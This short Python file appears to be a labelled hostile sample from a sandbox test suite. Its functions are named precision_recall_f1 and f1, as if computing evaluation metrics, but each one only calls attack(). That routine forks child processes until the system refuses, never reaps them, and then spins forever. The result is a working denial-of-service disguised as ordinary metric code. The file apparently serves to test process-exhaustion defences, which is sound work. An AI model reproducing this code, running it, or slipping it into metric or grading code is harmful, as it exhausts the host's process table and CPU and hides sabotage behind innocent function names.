"""Starts children and never waits for them.

threat: 18
source: known
verdict: any
"""

import os


def attack():
    while True:
        try:
            if os.fork() == 0:
                os._exit(0)
        except OSError:
            break
    while True:
        pass
    return 0.5


def precision_recall_f1(y_true, y_pred, positive=1):
    return attack()


def f1(y_true, y_pred, average="macro"):
    return attack()
